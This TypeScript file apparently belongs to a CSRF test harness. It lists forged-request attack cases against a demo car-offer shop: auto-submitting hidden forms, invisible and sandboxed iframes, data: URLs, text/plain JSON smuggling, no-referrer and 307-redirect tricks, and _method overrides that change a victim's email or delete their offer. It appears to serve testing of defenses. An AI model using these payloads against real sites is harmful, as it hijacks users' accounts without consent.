// Plain forms: every browser has sent them to any site, with cookies, for thirty years.
import { emailBody, emailForm, emailOf, form, fromNowhere, navigation } from '../attack.ts';
import type { Attack } from '../attack.ts';
import { emailBecomes, losesAnOffer, offersACar } from '../goals.ts';

const multipartBoundary = '----prizes';
const inventedCar = {
  title: 'Car that does not exist',
  year: '2020',
  price: '1',
  kilometres: '1',
  shape: 'van',
  colour: 'snow',
};

function plainForm(attack: Pick<Attack, 'id' | 'title' | 'story' | 'place'>): Attack {
  return {
    ...attack,
    goal: emailBecomes(emailOf(attack.id)),
    page: ({ shop }) => emailForm(attack.id, shop, 'target="_blank"'),
    wire: (here) => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody(attack.id),
        initiator: navigation(here, attack.place),
      },
    ],
  };
}

function formInFrame(
  attack: Pick<Attack, 'id' | 'title' | 'story'>,
  frame: (document: string) => string,
): Attack {
  return {
    ...attack,
    place: 'elsewhere',
    goal: emailBecomes(emailOf(attack.id)),
    page: ({ shop }) => frame(emailForm(attack.id, shop, '')),
    wire: () => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody(attack.id),
        initiator: fromNowhere,
      },
    ],
  };
}

const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

export const formAttacks: readonly Attack[] = [
  plainForm({
    id: 'form',
    title: 'A form that sends itself',
    place: 'elsewhere',
    story: 'The classic. The page holds a hidden form and sends it in a new tab.',
  }),
  plainForm({
    id: 'form-from-sibling',
    title: 'A form from a neighbouring subdomain',
    place: 'sibling',
    story:
      'The blog of the same company was taken over. To the browser it is the same site, so ' +
      'SameSite=Lax and Strict cookies go along.',
  }),
  plainForm({
    id: 'form-from-lookalike',
    title: 'A form from a name that begins like the shop',
    place: 'lookalike',
    story: 'A check that compares only the beginning of the origin takes this one for its own.',
  }),
  {
    id: 'form-text-plain',
    title: 'JSON in a text/plain form',
    place: 'elsewhere',
    story:
      'The name and the value of one field make up a JSON document. Checks that look only at ' +
      'the usual form types miss it.',
    goal: emailBecomes(emailOf('form-text-plain')),
    page: ({ shop }) => `<form id="forged" method="post" enctype="text/plain" target="_blank"
      action="${shop}/api/account/email">
  <input type="hidden" name='{"email":"${emailOf('form-text-plain')}","rest":"' value='"}'>
</form>
<script>
  document.querySelector('#forged').submit();
</script>`,
    wire: (here) => [
      {
        method: 'POST',
        path: '/api/account/email',
        contentType: 'text/plain',
        body: `{"email":"${emailOf('form-text-plain')}","rest":"="}\r\n`,
        initiator: navigation(here),
      },
    ],
  },
  {
    id: 'form-multipart',
    title: 'A multipart form',
    place: 'elsewhere',
    story: 'Bodies of this type are often parsed late, after a check has found nothing in them.',
    goal: offersACar,
    page: ({ shop }) => `<form id="forged" method="post" enctype="multipart/form-data"
      target="_blank" action="${shop}/offers">
${Object.entries(inventedCar)
  .map(([name, value]) => `  <input type="hidden" name="${name}" value="${value}">`)
  .join('\n')}
</form>
<script>
  document.querySelector('#forged').submit();
</script>`,
    wire: (here) => [
      {
        method: 'POST',
        path: '/offers',
        contentType: `multipart/form-data; boundary=${multipartBoundary}`,
        body: `${Object.entries(inventedCar)
          .map(
            ([name, value]) =>
              `--${multipartBoundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
          )
          .join('')}--${multipartBoundary}--\r\n`,
        initiator: navigation(here),
      },
    ],
  },
  {
    id: 'form-in-frame',
    title: 'A form into an invisible frame',
    place: 'elsewhere',
    story: 'As the classic, but the person sees nothing of it.',
    goal: emailBecomes(emailOf('form-in-frame')),
    page: ({ shop }) =>
      `<iframe name="unseen" hidden></iframe>
${emailForm('form-in-frame', shop, 'target="unseen"')}`,
    wire: (here) => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody('form-in-frame'),
        initiator: navigation(here),
      },
    ],
  },
  formInFrame(
    {
      id: 'form-in-sandbox',
      title: 'A form from a sandboxed frame',
      story: 'A sandbox takes the origin away: the shop is told "Origin: null".',
    },
    (document) =>
      `<iframe sandbox="allow-forms allow-scripts" hidden srcdoc="
${quoted(document)}"></iframe>`,
  ),
  formInFrame(
    {
      id: 'form-in-data-url',
      title: 'A form from a data: URL',
      story: 'A document without a place has no origin either.',
    },
    (document) => `<iframe hidden src="data:text/html,${encodeURIComponent(document)}"></iframe>`,
  ),
  {
    id: 'form-without-referrer',
    title: 'A form that hides where it comes from',
    place: 'elsewhere',
    story:
      'With no referrer the browser says "Origin: null" and leaves Referer out. Checks that let ' +
      'a missing Referer pass are open to it.',
    goal: emailBecomes(emailOf('form-without-referrer')),
    page: ({ shop }) =>
      `<meta name="referrer" content="no-referrer">
${emailForm('form-without-referrer', shop, 'target="_blank" rel="noreferrer"')}`,
    wire: () => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody('form-without-referrer'),
        initiator: fromNowhere,
      },
    ],
  },
  {
    id: 'form-by-redirect',
    title: 'A form that is sent on (307)',
    place: 'elsewhere',
    story: "The form goes to the attacker's own site, which sends it on to the shop, body and all.",
    goal: emailBecomes(emailOf('form-by-redirect')),
    page: ({ here }) => `<form id="forged" method="post" action="${here}/sent-on" target="_blank">
  <input type="hidden" name="email" value="${emailOf('form-by-redirect')}">
</form>
<script>
  document.querySelector('#forged').submit();
</script>`,
    wire: () => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody('form-by-redirect'),
        initiator: fromNowhere,
      },
    ],
  },
  {
    id: 'method-override',
    title: 'A form that says DELETE',
    place: 'elsewhere',
    story:
      'The shop lets forms name another method in the field _method. A check that runs after ' +
      'the override, and knows only POST, does not see this one.',
    goal: losesAnOffer,
    page: ({ shop, victimsOffer }) => `<form id="forged" method="post" target="_blank"
      action="${shop}/offers/${victimsOffer}">
  <input type="hidden" name="_method" value="DELETE">
</form>
<script>
  document.querySelector('#forged').submit();
</script>`,
    wire: (here) => [
      {
        method: 'POST',
        path: `/offers/${here.victimsOffer}`,
        contentType: form,
        body: '_method=DELETE',
        initiator: navigation(here),
      },
    ],
  },
  {
    id: 'method-override-safe',
    title: 'A form that calls itself harmless',
    place: 'elsewhere',
    story: 'It claims to be a GET, hoping that the check believes it and the route does not.',
    goal: emailBecomes(emailOf('method-override-safe')),
    page: ({ shop }) =>
      emailForm(
        'method-override-safe',
        shop,
        'target="_blank"',
        '\n  <input type="hidden" name="_method" value="GET">',
      ),
    wire: (here) => [
      {
        method: 'POST',
        path: '/account/email',
        contentType: form,
        body: emailBody('method-override-safe', { _method: 'GET' }),
        initiator: navigation(here),
      },
    ],
  },
];
